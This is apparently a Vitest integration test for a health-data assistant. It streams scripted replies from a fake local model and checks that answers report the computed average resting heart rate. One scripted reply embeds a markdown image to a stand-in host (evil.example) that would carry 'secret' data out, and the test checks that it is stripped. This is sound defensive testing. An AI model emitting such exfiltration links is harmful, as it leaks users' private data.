import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { answerOf, type Installation, install } from './harness.js'

const TODAY = '2026-03-31'
let here: Installation
let model: Server
/** What the model makes of the ids of the facts that it was given. */
let says: (ids: string[]) => string = () => ''
const bodies: string[] = []

/** An OpenAI-compatible endpoint that streams what `says` makes of the request, a few letters at a time. */
function startModel(): Promise<string> {
  model = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request) body += String(chunk)
    bodies.push(body)
    const text = says([...new Set(body.match(/f_[0-9a-f]{20}/g) ?? [])])
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    const send = (delta: object, finish: string | null): void => {
      const choices = [{ index: 0, delta, finish_reason: finish }]
      response.write(
        `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices })}\n\n`,
      )
    }
    send({ role: 'assistant', content: '' }, null)
    for (let i = 0; i < text.length; i += 7) send({ content: text.slice(i, i + 7) }, null)
    send({}, 'stop')
    response.end('data: [DONE]\n\n')
  })
  return new Promise((resolve) => {
    model.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(model.address() as AddressInfo).port}/v1`))
  })
}

beforeAll(async () => {
  const url = await startModel()
  here = await install({ AUREN_MODEL: 'local-model', AUREN_MODEL_URL: url, AUREN_MODEL_KEY: 'k' })
  const observations = Array.from({ length: 31 }, (_, i) => ({
    shape: 'sample' as const,
    metric: 'resting_heart_rate',
    start: Date.UTC(2026, 2, 1 + i, 6),
    value: 50 + (i % 5),
    unit: '/min',
    source: { name: 'Watch', type: 'watch' as const },
    offset: 60,
    zoneBasis: 'carried' as const,
  }))
  await here.auren.ingest.observations({ userId: 'local', provider: 'test', observations })
  await here.auren.ingest.settled()
}, 120_000)
afterAll(async () => {
  await here.close()
  await here.remove()
  model.closeAllConnections()
  model.close()
})

const QUESTION = 'What was my average resting heart rate from 2026-03-01 to 2026-03-31?'
// 31 days of 50, 51, 52, 53, 54 in turn: plain arithmetic.
const MEAN = (6 * (50 + 51 + 52 + 53 + 54) + 50) / 31

describe('an answer with a model, over HTTP', () => {
  it('says the number that was computed, where the model put its place', async () => {
    says = ([id]) => `Your heart beat at {{fact:${id}}}.`
    const { text, facts, sentences } = await answerOf(here.client, QUESTION, TODAY)
    expect(bodies.length).toBeGreaterThan(0)
    const fact = facts.find((held) => held.unit === '/min')
    expect(fact?.value).toBeCloseTo(MEAN, 9)
    expect(text).toContain(MEAN.toFixed(1))
    expect(sentences.some((sentence) => sentence.facts.includes(fact?.id ?? ''))).toBe(true)
  })

  it('is the same number without the model', async () => {
    says = () => ''
    const { text, facts } = await answerOf(here.client, QUESTION, TODAY)
    expect(facts.find((held) => held.unit === '/min')?.value).toBeCloseTo(MEAN, 9)
    expect(text).toContain(MEAN.toFixed(1))
  })

  it.each([
    ['a number of its own', () => 'Your resting heart rate was 47 beats per minute.'],
    ['a number in words', () => 'Your resting heart rate was forty-seven.'],
    ['a fact that it was not given', () => 'It was {{fact:f_00000000000000000000}}.'],
    [
      'a picture that would carry words away',
      ([id]: string[]) => `{{fact:${id}}} ![x](https://evil.example/?q=secret)`,
    ],
    ['a disease', ([id]: string[]) => `At {{fact:${id}}} you have bradycardia.`],
  ])('never says %s', async (_name, make) => {
    says = make as (ids: string[]) => string
    const { text } = await answerOf(here.client, QUESTION, TODAY)
    expect(text).not.toMatch(/47|forty|evil|bradycardia|f_0000/i)
    expect(text).toContain(MEAN.toFixed(1))
  })

  it('stops before any model where words call for help', async () => {
    const before = bodies.length
    const { text, facts } = await answerOf(here.client, 'I have crushing chest pain, what was my heart rate?', TODAY)
    expect(text).toMatch(/112|911|999/)
    expect(facts).toEqual([])
    expect(bodies).toHaveLength(before)
  })

  it('keeps the thread over a restart of the process', async () => {
    says = () => ''
    await answerOf(here.client, QUESTION, TODAY, 'lasting')
    const { dataDir } = here.config
    await here.close()
    here = await install({}, { dataDir })
    const turns = await here.client.call<{ role: string; text: string }[]>(
      'neuros',
      'GET',
      '/v1/threads/lasting/messages',
    )
    expect(turns.map((turn) => turn.role)).toEqual(['person', 'neuros'])
    expect(turns[0]?.text).toBe(QUESTION)
    expect(turns[1]?.text).toContain(MEAN.toFixed(1))
  })

  it('resumes an answer after a cut from the last part that arrived, and asks nothing twice', async () => {
    const ask = () =>
      fetch(`${here.services.addresses.neuros}/v1/threads/cut/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ text: QUESTION, clientId: 'one', today: TODAY }),
      })
    const whole = await (await ask()).text()
    const again = await ask()
    const run = again.headers.get('x-auren-run')
    expect(await again.text()).toBe(whole)
    const ids = [...whole.matchAll(/^id: (\d+)$/gm)].map((match) => Number(match[1]))
    const middle = ids[Math.floor(ids.length / 2)] as number
    const rest = await fetch(`${here.services.addresses.neuros}/v1/threads/cut/runs/${run}/stream`, {
      headers: { 'last-event-id': String(middle) },
    })
    const resumed = [...(await rest.text()).matchAll(/^id: (\d+)$/gm)].map((match) => Number(match[1]))
    expect(resumed).toEqual(ids.filter((id) => id > middle))
    expect((await fetch(`${here.services.addresses.neuros}/v1/threads/other/runs/${run}/stream`)).status).toBe(404)
  })
})
